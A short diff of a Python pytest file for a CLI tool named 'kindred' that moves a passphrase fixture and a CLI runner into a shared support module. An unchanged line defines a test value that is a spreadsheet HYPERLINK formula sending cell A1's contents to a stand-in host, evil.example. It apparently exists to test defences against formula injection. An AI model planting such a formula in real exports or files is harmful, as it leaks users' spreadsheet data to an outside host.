@@ -13,19 +13,10 @@ import pytest
 
 from cli import main as kindred
 from tests.privacy_support import PASSPHRASE
+from tests.privacy_support import env, run  # noqa: F401 - a fixture and the CLI runner
 from tests.sync_support import group
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
-
-
-@pytest.fixture
-def env(monkeypatch):
-    monkeypatch.setenv("KINDRED_PASSPHRASE", PASSPHRASE)
-    monkeypatch.setattr("cli.common.stdin_is_interactive", lambda: False)
-
-
-def run(data_dir, *args) -> int:
-    return kindred(["--data-dir", str(data_dir), *args])
 
 
 def mode(path) -> int:
